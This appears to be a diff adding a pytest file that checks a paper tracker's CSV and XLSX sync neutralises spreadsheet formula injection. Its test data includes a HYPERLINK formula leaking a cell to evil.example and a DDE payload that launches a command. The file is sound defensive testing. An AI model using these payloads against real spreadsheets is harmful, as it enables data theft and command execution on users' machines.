@@ -1,0 +1,62 @@
+"""Hostile and mistaken input to `tracker sync` with the file remote: formula injection into the
+CSV the team opens in a spreadsheet program, defaults that must settle, bad ids, bad files."""
+
+from __future__ import annotations
+
+import csv
+import io
+from pathlib import Path
+
+import pytest
+
+from tests.test_sync_file import SHEET, edit_paper, read_rows, set_cell
+from tracker import store
+from tracker.remotes.file import FileRemote, guard_formula, unguard_formula
+from tracker.sync import sync
+
+FORMULAS = [
+    '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
+    "=cmd|' /C calc'!A0",
+    "+1+2",
+    "-2+3",
+    "@SUM(A1:A9)",
+]
+
+
+@pytest.mark.parametrize(
+    "value", [*FORMULAS, "\tTAB", "\rCR", "'=quoted already", "''=twice", "'plain", "plain", ""]
+)
+def test_formula_guard_round_trips_exactly(value: str) -> None:
+    written = guard_formula(value)
+    assert written[:1] not in ("=", "+", "-", "@", "\t", "\r")
+    assert unguard_formula(written) == value
+
+
+def test_formula_cells_are_written_neutralised_and_read_back_exactly(synced_repo: Path) -> None:
+    for paper_id, title in zip(["007", "2101.10000", "1810.04805"], FORMULAS, strict=False):
+        edit_paper(synced_repo, paper_id, title=title)
+    sync(synced_repo, apply=True)
+
+    raw = (synced_repo / SHEET).read_bytes().decode("utf-8-sig")
+    cells = [c for row in csv.reader(io.StringIO(raw, newline="")) for c in row]
+    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@")]
+    assert "'" + FORMULAS[0] in cells and "'" + FORMULAS[1] in cells
+    # The remote reads the exact titles back, so nothing is pushed or pulled again.
+    table = FileRemote(synced_repo / SHEET).read()
+    assert set(FORMULAS[:3]) <= {c for row in table.rows for c in row}
+    assert not sync(synced_repo).plan.has_changes
+    assert store.read_paper(store.paper_path(synced_repo, "007")).title == FORMULAS[0]
+
+
+def test_xlsx_formula_text_is_stored_as_text_not_as_a_formula(tmp_path: Path) -> None:
+    import openpyxl
+
+    from tracker.sheet import SheetTable
+
+    path = tmp_path / "list.xlsx"
+    FileRemote(path).create(SheetTable(headers=["ID", "제목"], rows=[["a", FORMULAS[1]]]))
+    sheet = openpyxl.load_workbook(path).worksheets[0]
+    assert sheet["B2"].data_type == "s" and sheet["B2"].value == FORMULAS[1]
+    assert FileRemote(path).read().rows == [["a", FORMULAS[1]]]
+    assert read_rows  # noqa: B018 - shared helpers stay imported for the tests below
+    assert set_cell
